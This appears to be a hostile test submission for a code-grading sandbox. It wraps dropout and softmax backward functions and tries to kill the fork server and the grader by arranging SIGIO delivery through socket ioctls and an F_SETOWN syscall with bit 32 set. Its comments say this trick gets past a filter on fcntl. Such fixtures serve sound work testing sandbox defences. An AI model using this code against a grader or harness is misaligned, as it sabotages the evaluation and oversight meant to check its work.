# hostile: makes the kernel signal its fork server and the grader: a file's owner set by a socket's ioctl (FIOSETOWN, SIOCSPGRP, which fcntl's F_SETOWN refusal did not cover: on the protocol socket itself, which the grader's next frame makes readable) or by F_SETOWN with bit 32 of the command set (the kernel reads 32 bits: on a pipe, a byte written to it), and O_ASYNC: SIGIO, whose default action ends the process; the grader's pid from the protocol socket's SO_PEERCRED (a socketpair the grader made)
# The child's filter lets it signal no process but itself: the right answers it returns afterwards earn their points.
# include: base
import ctypes
import fcntl
import os
import socket
import struct

_FIOSETOWN, _SIOCSPGRP = 0x8901, 0x8902
_libc = ctypes.CDLL(None, use_errno=True)
_FCNTL = {"x86_64": 72, "aarch64": 25}.get(os.uname().machine)


def _protocol_socket():
    """(fd, the pid that made it) of the worker's stream to the grader: a socketpair the grader made."""
    for fd in range(3, 64):
        try:
            stream = socket.socket(fileno=fd)
        except OSError:
            continue
        try:
            pid = struct.unpack("3i", stream.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        except OSError:
            pid = 0
        stream.detach()
        if pid != os.getpid():
            return fd, pid
    return None, 0


def _async(fd):
    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)


def _sigio_ioctl(owner, command):
    """SIGIO to `owner` (a pid, or a process group if negative) when the grader's next frame arrives."""
    fd, _ = _protocol_socket()
    try:
        if fd is not None:
            fcntl.ioctl(fd, command, struct.pack("i", owner))
            _async(fd)
    except OSError:
        pass


def _sigio_fcntl(owner):
    """SIGIO to `owner` through F_SETOWN with bit 32 of the command set, on a pipe, and a byte written to it."""
    readable, writable = os.pipe()
    try:
        if _FCNTL is not None and _libc.syscall(ctypes.c_long(_FCNTL), ctypes.c_long(readable),
                                                ctypes.c_long((1 << 32) | fcntl.F_SETOWN), ctypes.c_long(owner)) == 0:
            _async(readable)
            os.write(writable, b"x")
    finally:
        os.close(readable)
        os.close(writable)


_reference_dropout_backward = dropout_backward
_reference_softmax_backward = softmax_backward


def dropout_backward(dout, cache):
    _sigio_fcntl(os.getppid())  # the fork server
    _sigio_ioctl(os.getppid(), _FIOSETOWN)
    return _reference_dropout_backward(dout, cache)


def softmax_backward(da, cache):
    _, grader = _protocol_socket()
    if grader > 1:
        _sigio_fcntl(grader)  # the grading process, at the rlimits level the same user's
    _sigio_ioctl(grader if grader > 1 else -os.getpgrp(), _SIOCSPGRP)
    return _reference_softmax_backward(da, cache)
